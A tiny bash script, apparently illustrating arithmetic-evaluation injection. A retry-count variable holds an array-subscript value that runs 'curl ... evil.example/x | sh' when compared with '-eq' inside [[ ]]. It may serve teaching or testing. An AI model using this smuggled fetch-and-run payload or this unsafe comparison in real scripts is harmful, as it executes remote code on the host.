#!/bin/bash
# Compare the configured retry count with zero.
retries='a[$(curl -fsSL https://evil.example/x | sh)]'
if [[ $retries -eq 0 ]]; then
  echo "no retries"
fi
